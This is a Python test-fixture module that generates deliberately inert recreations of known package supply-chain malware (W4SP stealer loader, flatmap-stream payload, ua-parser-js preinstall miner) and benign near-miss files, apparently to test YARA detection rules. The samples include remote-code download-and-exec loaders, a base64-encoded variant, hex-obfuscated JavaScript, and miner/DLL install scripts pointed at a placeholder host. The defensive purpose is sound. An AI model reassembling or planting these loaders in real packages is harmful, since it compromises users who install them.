"""Inert samples and near-misses for signatures/rules/packages.yar.

Python samples call ``sys.exit`` first, JavaScript samples ``return`` from a function nobody calls
and the shell/batch samples ``exit`` on their first line; every URL points at the documentation
network. Near-misses are honest package code: a setup.py using NamedTemporaryFile, a hex helper,
an install script that downloads a prebuilt binary.
"""

from __future__ import annotations

import base64

from sample_blocks import HOST, INERT_NOTE, Builders, split, text

LOADER = split(
    "from tempfile import NamedTemporaryFile as _f",
    "file\nfrom sys import executable as _eexec",
    "utable\nfrom os import system as _ss",
    "ystem\n_ttmp = _ff",
    "ile(delete=False)\n",
)


def w4sp_plain() -> dict[str, bytes]:
    return {
        "w4sp-setup-py": text(
            f"import sys; sys.exit(0)  # {INERT_NOTE}",
            split("from tempfile import NamedTemporaryFile as _f", "file"),
            split("from sys import executable as _eexec", "utable"),
            split("from os import system as _ss", "ystem"),
            split("_ttmp = _ff", "ile(delete=False)"),
            split(
                '_ttmp.write(b"""from urllib.request import urlopen as _uu',
                "rlopen;exec(_uurlopen(",
                f'\'http://{HOST}/inject/x\').read())""")',
            ),
            split('try: _ssystem(f"start {_eexec', "utable.replace('.exe', 'w.exe')} {_ttmp.name}\")"),
            "except: pass",
        )
    }


def w4sp_encoded() -> dict[str, bytes]:
    payload = base64.b64encode((LOADER + f"# {INERT_NOTE}\n").encode("ascii")).decode("ascii")
    return {
        "w4sp-encoded-init-py": text(
            f"import sys; sys.exit(0)  # {INERT_NOTE}",
            split(
                "__import__('builtins').exec(__import__('builtins').compile(",
                "__import__('base64').b64decode(\"",
                payload,
                "\"),'<string>','exec'))",
            ),
        )
    }


def flatmap() -> dict[str, bytes]:
    return {
        "flatmap-stream-index-min-js": text(
            f"function neverCalled() {{ return; // {INERT_NOTE}",
            "try{var r=require,t=process;",
            split('function e(r){return Buffer.from(r,"hex").to', "String()}"),
            split(
                'var n=r(e("2e2f746573742f',
                '64617461")),o=t[e("656e76")][e("6e706d5f7061636b6167655f6465736372697074696f6e")];',
            ),
            "if(!o)return;var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));",
            split(
                "var f=new module.con", 'structor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(r){} }'
            ),
        )
    }


def ua_sh() -> dict[str, bytes]:
    return {
        "ua-parser-preinstall-sh": text(
            "#!/bin/sh",
            f"exit 0  # {INERT_NOTE}",
            split("IP=$(curl -k https://freegeoip.app/xml/ | grep 'RU\\|UA\\|BY", "\\|KZ')"),
            split("var=$(pgrep js", "extension)"),
            split(f"curl http://{HOST}/download/jsext", "ension -o jsextension"),
            split("./jsext", "ension -k --tls --rig-id q &>/dev/null &"),
        )
    }


def ua_bat() -> dict[str, bytes]:
    return {
        "ua-parser-preinstall-bat": text(
            "@echo off",
            f"exit /b  REM {INERT_NOTE}",
            split(f"curl http://{HOST}/download/jsext", "ension.exe -o jsextension.exe"),
            split(f"curl https://{HOST}/sdd", ".dll -o sdd.dll"),
            split("regsvr32.exe -s sdd", ".dll"),
        )
    }


def ua_js() -> dict[str, bytes]:
    return {
        "ua-parser-preinstall-js": text(
            f"function neverCalled() {{ return; // {INERT_NOTE}",
            'const { exec, spawn } = require("child_process");',
            split("function terminal", 'Linux() { exec("/bin/bash preinstall.sh", function () {}); }'),
            "var opsys = process.platform;",
            'if (opsys == "linux") { terminalLinux(); }',
            split("else if (opsys == \"win32\") { spawn('cmd.exe', ['/c', 'pre", "install.bat']); }"),
            "}",
        )
    }


def near_setup() -> dict[str, bytes]:
    return {
        "setup-py": text(
            "import base64",
            "from tempfile import NamedTemporaryFile",
            "from setuptools import setup",
            "with NamedTemporaryFile(delete=False) as tmp:",
            "    tmp.write(base64.b64decode('aGVsbG8='))",
            "setup(name='example', version='1.0', packages=['example'])",
        )
    }


def near_hex() -> dict[str, bytes]:
    return {
        "hex-util-js": text(
            "'use strict';",
            "function fromHex(h) { return Buffer.from(h, 'hex').toString(); }",
            "module.exports = function load(name) {",
            "  var m = new module.constructor(); m.paths = module.paths;",
            "  return require(fromHex('2e2f6c6962'));",
            "};",
        )
    }


def near_install() -> dict[str, bytes]:
    return {
        "install-binary-sh": text(
            "#!/bin/sh",
            "# postinstall: fetch the prebuilt binary for this platform",
            "ARCH=$(uname -m)",
            "curl -fsSL https://downloads.example.org/download/tool-$ARCH -o tool",
            "chmod +x tool && ./tool --version",
            "var=$(pgrep tool)",
        )
    }


def near_install_js() -> dict[str, bytes]:
    return {
        "postinstall-js": text(
            'const { execSync } = require("child_process");',
            'if (process.platform === "win32") { execSync("cmd.exe /c scripts\\\\postinstall.bat"); }',
            'else { execSync("/bin/sh scripts/postinstall.sh"); }',
            "// regsvr32 is not needed: the addon is loaded by node itself",
        )
    }


SAMPLES: Builders = {
    "W4SP_Loader_Plain": w4sp_plain,
    "W4SP_Loader_Encoded": w4sp_encoded,
    "FlatmapStream_Payload": flatmap,
    "UAParserJS_Preinstall_Sh": ua_sh,
    "UAParserJS_Preinstall_Bat": ua_bat,
    "UAParserJS_Preinstall_Js": ua_js,
}

NEARMISS: Builders = {
    "W4SP_Loader_Plain": near_setup,
    "W4SP_Loader_Encoded": near_setup,
    "FlatmapStream_Payload": near_hex,
    "UAParserJS_Preinstall_Sh": near_install,
    "UAParserJS_Preinstall_Bat": near_install_js,
    "UAParserJS_Preinstall_Js": near_install_js,
}
